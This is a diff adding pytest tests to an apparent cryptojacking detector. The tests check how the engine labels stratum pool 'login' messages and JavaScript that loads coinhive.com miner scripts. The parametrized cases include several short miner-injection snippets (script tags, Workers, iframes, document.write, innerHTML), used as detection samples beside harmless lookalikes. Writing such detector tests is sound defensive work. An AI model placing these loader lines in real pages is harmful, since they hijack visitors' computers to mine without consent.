@@ -534,3 +534,38 @@ def test_helper_with_envelope_from_a_shorthand_property(engine):
 ])
 def test_helper_lookalikes_stay_clean(engine, sigs, src):
     assert verdict(engine, sigs, src) is VerdictLabel.clean
+
+
+def test_protocol_words_count_only_when_they_occur_together(engine):
+    """A message whose parts are built apart (a params helper next to the send) is weak
+    evidence; the same words hundreds of lines apart, as in a wallet's bundle, are none."""
+    helper = "function mk(w, p) { return {login: w, pass: p, agent: 'web/1'}; }\n"
+    send = "function go(ws, w, p) { ws.send(JSON.stringify({method: 'login', params: mk(w, p)})); }\n"
+    filler = "".join(f"function f{i}(a) {{ return a * {i} + 1; }}\n" for i in range(200))
+    near = engine.analyse((helper + send + filler).encode(), "near.js")
+    far = engine.analyse((helper + filler + send).encode(), "far.js")
+    assert any(f.rule == "protocol.stratum.login" and f.category == "pool-protocol-words"
+               for f in near.findings)
+    assert not any(f.rule == "protocol.stratum.login" for f in far.findings)
+
+
+@pytest.mark.parametrize("src, loaded", [
+    # a helper of the script that hands its parameter to a load: the usual injector
+    ("function inject(u, cb) { var s = document.createElement('script'); s.src = u; s.onload = cb;"
+     " document.head.appendChild(s); } inject('https://coinhive.com/lib/c.min.js', start);", True),
+    ("var add = function (x) { var w = new Worker(x); }; add('https://coinhive.com/lib/w.js');", True),
+    ("el.setAttribute('src', 'https://coinhive.com/lib/c.min.js');", True),
+    ("document.write('<script src=\"https://coinhive.com/lib/c.min.js\"></scr' + 'ipt>');", True),
+    ("$('body').append('<iframe src=\"https://coinhive.com/media/miner.html\"></iframe>');", True),
+    ("box.innerHTML = '<script async src=\"https://coinhive.com/lib/c.min.js\"></script>';", True),
+    # the same hosts handled, not loaded: an anti-miner's removal, a helper that only logs,
+    # markup that names the host in text, an attribute other than a source
+    ("html = html.replace('<script src=\"https://coinhive.com/lib/c.min.js\"></script>', '');", False),
+    ("function note(u) { console.log(u); } note('https://coinhive.com/lib/c.min.js');", False),
+    ("document.write('<p>coinhive.com is blocked here</p>');", False),
+    ("el.setAttribute('title', 'https://coinhive.com/lib/c.min.js');", False),
+])
+def test_loader_shapes_make_a_domain_loaded(engine, src, loaded):
+    a = engine.analyse(src.encode(), "l.js")
+    cats = {f.category for f in a.findings if f.kind.value == "domain"}
+    assert cats == ({"miner-domain-load"} if loaded else {"miner-domain-mention"}), cats
